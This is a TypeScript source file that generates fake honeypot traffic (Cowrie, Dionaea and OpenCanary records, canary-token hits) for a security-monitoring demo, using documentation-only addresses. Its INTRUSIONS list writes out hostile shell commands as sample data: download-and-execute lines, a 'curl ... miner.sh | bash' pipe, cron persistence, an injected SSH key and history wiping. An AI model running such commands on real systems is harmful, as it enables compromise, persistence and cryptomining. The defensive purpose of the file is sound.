import { hash } from 'node:crypto'
import type { JsonObject } from '../../domain/json.js'
import type { ActName, DueAct } from './schedule.js'

/** The foreign kinds of canary tokens, whose reports name the address of the intruder. */
export type HookKind = 'canarytokens' | 'opencanary'

/** One request of the demo's traffic, or an injected delay. */
export type Step = {
  /** Seconds of the schedule. */
  at: number
} & (
  | {
      kind: 'record'
      /** `unknown`: a key that this installation does not know. */
      key: 'demo' | 'unknown'
      /** @param time of the step, by the clock. */
      record: (time: Date) => JsonObject
    }
  | { kind: 'canary'; hook: HookKind; record: (time: Date) => JsonObject }
  /** A file that the intruder brought, for the evidence vault. */
  | { kind: 'file'; sensor: string; session: string; source_ip: string; name: string; content: Buffer }
  /** Each POST /log of the next `seconds` (of the schedule) waits so long. */
  | { kind: 'delay'; milliseconds: number; seconds: number }
)

/** Longer than the 500 ms of the latency objective of POST /log. */
const SLOW_MS = 800
const SLOW_SECONDS = 60

const BRUTE_FORCE_ATTEMPTS = 60
/** Different files that intruders bring. */
const BROUGHT_FILES = 5
const SCANNED_USERS = ['root', 'admin', 'pi', 'oracle', 'ubuntu', 'postgres', 'test', 'git'] as const
const TRIED_PASSWORDS = ['123456', 'admin', 'raspberry', 'changeme', 'P@ssw0rd', 'qwerty', 'toor'] as const
const CLIENTS = [
  'SSH-2.0-Go',
  'SSH-2.0-libssh2_1.10.0',
  'SSH-2.0-OpenSSH_9.6',
  'SSH-2.0-paramiko_3.4.0',
] as const
const INTRUSIONS = [
  [
    'uname -a; cat /proc/cpuinfo | grep name | wc -l',
    'cd /tmp && wget http://192.0.2.66/bins/x86 -O .x && chmod 777 .x && ./.x',
    '(crontab -l; echo "*/5 * * * * /tmp/.x") | crontab -',
    'history -c',
  ],
  [
    'whoami; id; w',
    'mkdir -p ~/.ssh && echo "ssh-rsa AAAAB3NzaC1yc2E demo" >> ~/.ssh/authorized_keys',
    'curl -s http://198.51.100.66/miner.sh | bash',
    'pkill -9 xmrig; nohup ./kdevtmpfsi > /dev/null &',
  ],
] as const

/**
 * The steps of an act; of one occurrence always the same.
 * @param run tells sessions of one start from those of another.
 */
export function stepsOf({ name, at, occurrence }: DueAct, run: string): Step[] {
  return MAKERS[name](occurrence, run).map((step) => ({ ...step, at: at + step.at }))
}

const MAKERS: Readonly<Record<ActName, (occurrence: number, run: string) => Step[]>> = {
  scan: (n, run) => {
    const session = cowrieSession(`scan-${run}-${n}`, addressOf(n), n % 2 === 0 ? 'cowrie-1' : 'cowrie-2')
    const attempts = Array.from({ length: (n % 3) + 1 }, (_, i) =>
      session(2 + i, 'cowrie.login.failed', {
        username: pick(SCANNED_USERS, n + i),
        password: pick(TRIED_PASSWORDS, n * 3 + i),
      }),
    )
    return [
      session(0, 'cowrie.session.connect'),
      session(1, 'cowrie.client.version', { version: pick(CLIENTS, n) }),
      ...attempts,
      session(3 + attempts.length, 'cowrie.session.closed', { duration: String(3 + attempts.length) }),
    ]
  },
  smb: (n) => [
    dionaea(0, addressOf(n + 40), n % 4 === 3 ? 'mssqld' : 'smbd', n % 4 === 3 ? ['sa', 'sa123'] : null),
  ],
  'decoy services': (n) => [
    openCanary(0, addressOf(n + 80), 3000, { PATH: '/index.html', USERAGENT: 'Mozilla/5.0 zgrab/0.x' }),
    n % 3 === 2
      ? openCanary(2, addressOf(n + 80), 17001, { CMD: 'CONFIG', ARGS: 'SET dir /var/spool/cron' })
      : openCanary(2, addressOf(n + 80), 3001, {
          USERNAME: pick(SCANNED_USERS, n),
          PASSWORD: pick(TRIED_PASSWORDS, n),
        }),
  ],
  'brute force': (n, run) => {
    const session = cowrieSession(
      `brute-${run}-${n}`,
      n % 2 === 0 ? '203.0.113.200' : '2001:db8:bad::200',
      'cowrie-2',
    )
    return [
      session(0, 'cowrie.session.connect'),
      ...Array.from({ length: BRUTE_FORCE_ATTEMPTS }, (_, i) =>
        session(0.5 + i / 2, 'cowrie.login.failed', {
          username: pick(SCANNED_USERS, i),
          password: `${pick(TRIED_PASSWORDS, i + n)}${i}`,
        }),
      ),
      session(BRUTE_FORCE_ATTEMPTS / 2 + 1, 'cowrie.session.closed', { duration: '31' }),
    ]
  },
  intrusion: (n, run) => {
    const [key, source_ip, sensor] = [`intrusion-${run}-${n}`, addressOf(n + 120), 'cowrie-1']
    const session = cowrieSession(key, source_ip, sensor)
    const name = 'var/lib/cowrie/downloads/x86'
    const content = Buffer.from(
      `#!/bin/sh\n# File ${n % BROUGHT_FILES} of the demo: it does nothing.\nexit 0\n`,
    )
    const commands = pick(INTRUSIONS, n)
    return [
      session(0, 'cowrie.session.connect'),
      session(1, 'cowrie.login.success', { username: 'root', password: pick(TRIED_PASSWORDS, n) }),
      ...commands.map((input, i) => session(2 + 2 * i, 'cowrie.command.input', { input })),
      session(5, 'cowrie.session.file_download', {
        url: 'http://192.0.2.66/bins/x86',
        shasum: hash('sha256', content),
        outfile: name,
      }),
      { at: 5, kind: 'file', sensor, session: key, source_ip, name, content },
      session(3 + 2 * commands.length, 'cowrie.session.closed', { duration: '11' }),
    ]
  },
  canary: (n) => [
    n % 2 === 0
      ? {
          at: 0,
          kind: 'canary',
          hook: 'canarytokens',
          record: (time) => ({
            manage_url: 'http://192.0.2.10/manage',
            memo: 'payroll.xlsx on the finance share',
            token: 'demo',
            token_type: 'ms_excel',
            channel: 'HTTP',
            src_ip: addressOf(n + 160),
            time: `${time.toISOString().slice(0, 19).replace('T', ' ')} (UTC)`,
            additional_data: { useragent: 'Microsoft Office/16.0' },
          }),
        }
      : {
          at: 0,
          kind: 'canary',
          hook: 'opencanary',
          record: (time) =>
            openCanaryRecord(time, addressOf(n + 160), 5000, {
              FILENAME: 'passwords.kdbx',
              USER: 'svc-backup',
            }),
        },
  ],
  'unreadable record': (n, run) => [
    {
      at: 0,
      kind: 'record',
      key: 'demo',
      record: () => ({ level: 'info', message: `collector restarted (${run}-${n})` }),
    },
  ],
  'unknown key': (n, run) =>
    [0, 5, 10].map((at) => {
      const session = cowrieSession(`unknown-${run}-${n}`, addressOf(n), 'cowrie-retired')
      return { ...session(at, 'cowrie.session.connect'), key: 'unknown' as const }
    }),
  'slow minute': () => [{ at: 0, kind: 'delay', milliseconds: SLOW_MS, seconds: SLOW_SECONDS }],
}

type RecordStep = Extract<Step, { kind: 'record' }>

/** @returns a maker of steps with Cowrie's records of one session. */
function cowrieSession(session: string, src_ip: string, sensor: string) {
  return (at: number, eventid: string, facts: JsonObject = {}): RecordStep => ({
    at,
    kind: 'record',
    key: 'demo',
    record: (time) => ({
      eventid,
      src_ip,
      session,
      sensor,
      protocol: 'ssh',
      timestamp: time.toISOString(),
      dst_ip: '192.0.2.22',
      dst_port: 22,
      ...facts,
    }),
  })
}

function dionaea(
  at: number,
  src_ip: string,
  protocol: string,
  login: readonly [string, string] | string[] | null,
): Step {
  return {
    at,
    kind: 'record',
    key: 'demo',
    record: (time) => ({
      connection: { protocol, transport: 'tcp', type: 'accept' },
      src_ip,
      src_port: 49_152,
      dst_ip: '192.0.2.23',
      dst_port: protocol === 'smbd' ? 445 : 1433,
      timestamp: time.toISOString().replace('Z', ''),
      ...(login !== null && { credentials: { username: [login[0] ?? ''], password: [login[1] ?? ''] } }),
    }),
  }
}

function openCanary(at: number, src_host: string, logtype: number, logdata: JsonObject): Step {
  return {
    at,
    kind: 'record',
    key: 'demo',
    record: (time) => openCanaryRecord(time, src_host, logtype, logdata),
  }
}

function openCanaryRecord(time: Date, src_host: string, logtype: number, logdata: JsonObject): JsonObject {
  return {
    node_id: 'opencanary-1',
    logtype,
    logdata,
    src_host,
    src_port: 50_000,
    dst_host: '192.0.2.24',
    dst_port: 80,
    utc_time: time.toISOString().replace('T', ' ').replace('Z', ''),
  }
}

/** Addresses for documentation alone: RFC 5737 and RFC 3849. */
function addressOf(n: number): string {
  const host = ((n * 37) % 250) + 1
  const networks = ['203.0.113.', '198.51.100.', '192.0.2.', '2001:db8:dec0::'] as const
  const network = pick(networks, n)
  return network + (network.includes(':') ? host.toString(16) : host)
}

function pick<Item>(items: readonly Item[], n: number): Item {
  return items[n % items.length] as Item
}
